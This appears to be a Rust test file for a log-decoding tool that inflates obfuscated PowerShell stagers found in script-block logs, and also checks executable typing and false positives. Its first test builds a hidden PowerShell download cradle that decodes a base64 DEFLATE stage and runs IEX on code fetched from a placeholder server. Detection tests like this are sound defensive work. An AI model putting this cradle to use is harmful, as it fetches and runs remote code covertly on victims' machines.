//! PowerShell stagers as they appear in script-block logs.

mod common;

use common::*;
use huntkit_decode::{decode, DecodeOptions, Status};

/// The DeflateStream cradle: raw DEFLATE (no gzip or zlib header) inside base64.
#[test]
fn deflate_stream_stager_is_inflated() {
    let stage = "$wc=New-Object System.Net.WebClient;$wc.Headers.Add('User-Agent','Mozilla/5.0 \
                 (Windows NT 10.0; Win64; x64)');$wc.Proxy=[System.Net.WebRequest]::DefaultWebProxy;\
                 IEX $wc.DownloadString('https://203.0.113.77:8443/admin/get.php')";
    let line = format!(
        "powershell -nop -w hidden -c \"IEX (New-Object IO.StreamReader(New-Object \
         IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('{}'),\
         [IO.Compression.CompressionMode]::Decompress),[Text.Encoding]::ASCII)).ReadToEnd()\"",
        b64(&deflate(stage.as_bytes()))
    );
    let out = decode(&line, &DecodeOptions::default()).unwrap();
    let outer = &out.records[0];
    assert_eq!(outer.file_type.as_deref(), Some("deflate"));
    assert_eq!(outer.encoding_type, "binary");
    assert_eq!(outer.status, Status::Ok);
    let inner = &out.records[1];
    assert_eq!(inner.file_name, "deflate_data");
    assert_eq!(inner.source_encoding, "deflate");
    assert_eq!(inner.decoded_string.as_deref(), Some(stage));
    assert!(out.text.contains("file_type='deflate'"));
    assert!(out.text.contains("https://203.0.113.77:8443/admin/get.php"));
}

/// A PE carried the same way is typed by its magic number once inflated.
#[test]
fn deflated_executable_is_typed() {
    let mut pe = vec![0u8; 1024];
    pe[..2].copy_from_slice(b"MZ");
    pe[0x3c] = 0x80;
    pe[0x80..0x84].copy_from_slice(b"PE\0\0");
    pe[0x80 + 22 + 1] = 0x20;
    let text = format!("$b=[Convert]::FromBase64String(\"{}\")", b64(&deflate(&pe)));
    let out = decode(&text, &DecodeOptions::default()).unwrap();
    assert_eq!(out.records[0].file_type.as_deref(), Some("deflate"));
    assert_eq!(out.records[1].file_type.as_deref(), Some("dll"));
}

/// Random bytes are not taken for a stream: they stay one binary record.
#[test]
fn random_bytes_are_not_deflate() {
    let mut state = 0x2545_f491_4f6c_dd1d_u64;
    let mut inflated = 0;
    for _ in 0..20_000 {
        let bytes: Vec<u8> = (0..64)
            .map(|_| {
                state ^= state << 13;
                state ^= state >> 7;
                state ^= state << 17;
                state.to_le_bytes()[5]
            })
            .collect();
        let out = decode(&format!("x {} y", b64(&bytes)), &DecodeOptions::default()).unwrap();
        if out
            .records
            .iter()
            .any(|r| r.file_type.as_deref() == Some("deflate"))
        {
            inflated += 1;
        }
    }
    assert_eq!(inflated, 0);
}
